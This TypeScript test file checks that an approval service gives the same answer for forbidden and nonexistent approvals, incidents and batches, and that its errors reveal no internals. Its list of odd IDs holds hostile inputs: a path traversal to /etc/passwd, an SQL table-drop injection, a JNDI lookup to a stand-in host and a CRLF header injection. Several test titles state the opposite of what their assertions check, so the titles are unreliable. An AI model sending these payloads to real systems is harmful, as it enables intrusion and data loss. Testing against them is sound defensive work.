import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Asked } from './asked.ts';
import type { Answer, Visitor } from './visitor.ts';
import { World } from './world.ts';

let world: World;
let asked: Asked;
beforeEach(async () => {
  world = await World.open();
  world.freeze();
  asked = await world.ask();
});
afterEach(() => world.close());

const unknownId = 'AAAAAAAAAAAAAAAAAAAAAAAAAAA';
const strangeIds = [
  '__proto__',
  'constructor',
  '%2e%2e%2f',
  '..%2F..%2Fetc%2Fpasswd',
  'a'.repeat(300),
  '%00',
  '%F0%9F%92%A3',
  "';DROP TABLE approvals;--",
  '${jndi:ldap:%2F%2Fevil.example}',
  '%0d%0aset-cookie:%20x=y',
  'APPROVAL%23x',
  '%E2%80%AE',
];

/** Everything that an answer tells, but what differs from answer to answer anyway. */
function told({ status, headers, text }: Answer, ...ids: readonly string[]) {
  const visible = Object.fromEntries([...headers].filter(([name]) => name !== 'date'));
  const anonymous = (value: string): string => ids.reduce((left, id) => left.replaceAll(id, 'ID'), value);
  return { status, headers: anonymous(JSON.stringify(visible)), text: anonymous(text) };
}

async function answers(visitor: Visitor, id: string, csrf = 'x'): Promise<Answer[]> {
  const body = new URLSearchParams({ csrf, planDigest: asked.planDigest, verdict: 'approve' });
  return [
    await visitor.ask('GET', `/approvals/${id}`),
    await visitor.ask('HEAD', `/approvals/${id}`),
    await visitor.ask('GET', `/approvals/${id}/status`),
    await visitor.ask('POST', `/approvals/${id}`, { body }),
    await visitor.ask('POST', `/approvals/${id}`, { body: 'nonsense' }),
    await visitor.ask('OPTIONS', `/approvals/${id}`),
  ];
}

describe('enumeration', () => {
  it.each(['dan', 'pia'])('%s, who may not know, tells what exists from what does not', async (person) => {
    const visitor = await world.signedIn(person);
    const token = await world.tokenFor(visitor, `approval/${asked.approvalId}`);
    const existing = await answers(visitor, asked.approvalId, token);
    const unknown = await answers(visitor, unknownId, token);
    expect(existing.map((answer) => told(answer, asked.approvalId))).toStrictEqual(
      unknown.map((answer) => told(answer, unknownId)),
    );
    expect(existing[0]?.status).toBe(404);
    expect(existing[3]?.status).toBe(404);
  });

  it('a visitor without a session tells what exists from what does not', async () => {
    const existing = await answers(world.visitor(), asked.approvalId);
    const unknown = await answers(world.visitor(), unknownId);
    expect(existing.map((answer) => told(answer, asked.approvalId))).toStrictEqual(
      unknown.map((answer) => told(answer, unknownId)),
    );
  });

  it('an approver tells an approval of another environment from none', async () => {
    const pia = await world.signedIn('pia');
    const ana = await world.signedIn('ana');
    const elsewhere = await world.ask({ plan: (incidentId) => world.planIn('prod', incidentId) });
    expect((await pia.ask('GET', elsewhere.path)).status).toBe(200);
    const [existing, unknown] = [await answers(ana, elsewhere.approvalId), await answers(ana, unknownId)];
    expect(existing.map((answer) => told(answer, elsewhere.approvalId))).toStrictEqual(
      unknown.map((answer) => told(answer, unknownId)),
    );
  });

  it('ids of every strange shape get the same answer as one that does not exist', async () => {
    const ana = await world.signedIn('ana');
    const unknown = told(await ana.ask('GET', `/approvals/${unknownId}`), unknownId);
    expect(unknown.status).toBe(404);
    for (const id of strangeIds)
      expect(told(await ana.ask('GET', `/approvals/${id}`), id)).toStrictEqual(unknown);
  });

  it('incidents that one may not read differ from those that do not exist', async () => {
    for (const person of ['dan', 'pia']) {
      const visitor = await world.signedIn(person);
      const existing = told(await visitor.ask('GET', `/incidents/${asked.incidentId}`), asked.incidentId);
      expect(existing).toStrictEqual(told(await visitor.ask('GET', '/incidents/inc-0'), 'inc-0'));
      expect(existing.status).toBe(404);
    }
  });

  it('the inbox, a batch and the lists of the API name what one may not see', async () => {
    const { key } = await world.askBatch();
    for (const person of ['dan', 'pia']) {
      const visitor = await world.signedIn(person);
      const batches = [
        await visitor.ask('GET', `/batches/${key}`),
        await visitor.ask('GET', '/batches/00000000'),
      ];
      expect(told(batches[0] as Answer, key)).toStrictEqual(told(batches[1] as Answer, '00000000'));
      const authorization = `Bearer ${await world.idToken(person)}`;
      const lists = [
        ...(await Promise.all(
          ['/', '/?view=all', '/?view=decided', `/batches/${key}`].map((path) => visitor.ask('GET', path)),
        )),
        ...(await Promise.all(
          ['', '?view=mine', '?view=decided', '/never-again', '/figures'].map((path) =>
            visitor.ask('GET', `/api/approvals${path}`, { headers: { authorization } }),
          ),
        )),
      ];
      for (const { text } of lists) {
        for (const secret of [asked.approvalId, asked.planDigest, asked.incidentId, 'checkout']) {
          expect(text).not.toContain(secret);
        }
      }
    }
  });

  it('the API tells what exists from what does not', async () => {
    const authorization = `Bearer ${await world.idToken('dan')}`;
    const visitor = world.visitor();
    const ask = async (id: string) => {
      const headers = { authorization, 'content-type': 'application/json' };
      const body = JSON.stringify({ planDigest: asked.planDigest, verdict: 'approve' });
      return [
        await visitor.ask('GET', `/api/approvals/${id}`, { headers }),
        await visitor.ask('POST', `/api/approvals/${id}/votes`, { headers, body }),
        await visitor.ask('POST', `/api/approvals/${id}/votes`, { headers, body: 'nonsense' }),
        await visitor.ask('POST', `/api/approvals/${id}/votes`, { headers: { authorization }, body }),
      ].map((answer) => told(answer, id));
    };
    const existing = await ask(asked.approvalId);
    expect(existing).toStrictEqual(await ask(unknownId));
    expect(existing.map(({ status }) => status)).toStrictEqual([404, 404, 404, 404]);
  });

  it('an error says what is inside', async () => {
    const ana = await world.signedIn('ana');
    await world.put({
      ...(await world.get({ pk: `APPROVAL#${asked.approvalId}`, sk: 'APPROVAL' })),
      votes: 7,
    });
    const { status, text } = await ana.ask('GET', asked.path);
    expect(status).toBe(500);
    expect(world.errors.length).toBeGreaterThan(0);
    for (const { message, stack = '' } of world.errors) {
      expect(text).not.toContain(message);
      expect(text).not.toContain(stack.split('\n')[1]?.trim() ?? 'at ');
    }
    expect(text).not.toMatch(/TypeError|\bat \w+ \(|node_modules|\.tsx?:\d/);
  });
});
